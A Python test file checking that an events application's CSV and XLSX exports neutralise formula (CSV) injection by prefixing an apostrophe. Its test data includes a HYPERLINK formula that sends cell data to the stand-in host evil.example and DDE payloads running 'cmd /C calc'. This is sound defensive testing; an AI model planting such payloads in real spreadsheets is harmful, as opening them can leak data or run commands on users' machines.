"""``events.spreadsheet``: no text reaches a CSV or XLSX as a formula (OWASP "CSV Injection").

Table-driven, no database. The exports themselves are run over hostile names in
``tests/test_exports_formula_free.py``.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from events.spreadsheet import cell_text, csv_text, xlsx_append

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Claim prize")'


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        pytest.param(HYPERLINK, "'" + HYPERLINK, id="owasp-equals"),
        pytest.param("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", id="owasp-plus"),
        pytest.param("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", id="owasp-minus"),
        pytest.param("@SUM(1+1)", "'@SUM(1+1)", id="owasp-at"),
        # A tab or carriage return also separates: the piece after it is neutralised too.
        pytest.param("\t=1+1", "'\t'=1+1", id="owasp-tab"),
        pytest.param("\r=1+1", "'\r'=1+1", id="owasp-carriage-return"),
        pytest.param("-", "'-", id="a-lone-dash"),
        pytest.param("-1e3", "'-1e3", id="not-our-number-format"),
        pytest.param("Ding, Liren", "Ding, Liren", id="plain-name"),
        pytest.param("Nakamura =1+1", "Nakamura =1+1", id="formula-not-at-the-start"),
        pytest.param("", "", id="empty"),
        # Issue 29: a spreadsheet that splits on ";" (continental Europe), "|" or a tab sees
        # two cells; each piece that would start a formula is neutralised, spaces aside.
        pytest.param("Semi;=1+1", "Semi;'=1+1", id="issue-29-semicolon"),
        pytest.param("Semi; =1+1", "Semi; '=1+1", id="issue-29-semicolon-space"),
        pytest.param("a|@SUM(A1)", "a|'@SUM(A1)", id="pipe"),
        pytest.param("a\t+1+1", "a\t'+1+1", id="tab-inside"),
        pytest.param("Ding,=1+1", "Ding,'=1+1", id="comma"),
        pytest.param("a;-1;b", "a;-1;b", id="a-number-between-separators"),
        pytest.param("x;y;=A1;z", "x;y;'=A1;z", id="third-piece"),
        # The exact numbers the product writes itself stay numbers for scripts.
        pytest.param("-0.25", "-0.25", id="negative-decimal"),
        pytest.param("-25/3", "-25/3", id="negative-fraction"),
        pytest.param("-1 2", "-1 2", id="tiebreak-list"),
        pytest.param("12.5", "12.5", id="positive-decimal"),
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(text: str, cell: str) -> None:
    assert cell_text(text) == cell


def test_csv_text_neutralises_text_cells_and_keeps_numbers() -> None:
    text = csv_text([["name", "points"], [HYPERLINK, 3], ["@x", Decimal("-2.5")]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "points"], ["'" + HYPERLINK, "3"], ["'@x", "-2.5"]]


@pytest.mark.parametrize(
    ("name", "line"),
    [
        pytest.param("Semi;=1+1", '"Semi;\'=1+1",3\n', id="issue-29-semicolon"),
        pytest.param("a|b", '"a|b",3\n', id="pipe"),
        pytest.param("a\tb", '"a\tb",3\n', id="tab"),
        pytest.param('say "hi", then', '"say ""hi"", then",3\n', id="quote-and-comma"),
        pytest.param("Carlsen", "Carlsen,3\n", id="plain"),
    ],
)
def test_a_field_with_any_separator_is_quoted(name: str, line: str) -> None:
    """Issue 29: a program that splits on ";", "|" or a tab and honours quotes keeps the
    field one cell; Python's csv module (and any RFC 4180 reader) reads it back."""
    text = csv_text([[name, 3]])
    assert text == line
    assert next(csv.reader(io.StringIO(text))) == [cell_text(name), "3"]
    for delimiter in ";|\t":
        cells = next(csv.reader(io.StringIO(text), delimiter=delimiter))
        assert not any(cell.lstrip(" ").startswith(("=", "+", "@")) for cell in cells), cells


def test_xlsx_text_is_text_never_a_formula_and_numbers_stay_numbers() -> None:
    workbook = Workbook()
    sheet = workbook.active
    xlsx_append(sheet, [HYPERLINK, Decimal("82500"), 7, "+1", "Carlsen"])
    out = io.BytesIO()
    workbook.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())[0]
    assert [cell.value for cell in cells] == [HYPERLINK, 82500, 7, "+1", "Carlsen"]
    assert [cell.data_type for cell in cells] == ["s", "n", "n", "s", "s"]
    # The quote prefix keeps a formula-like text as text when someone edits the cell.
    assert [cell.quotePrefix for cell in cells] == [True, False, False, True, False]
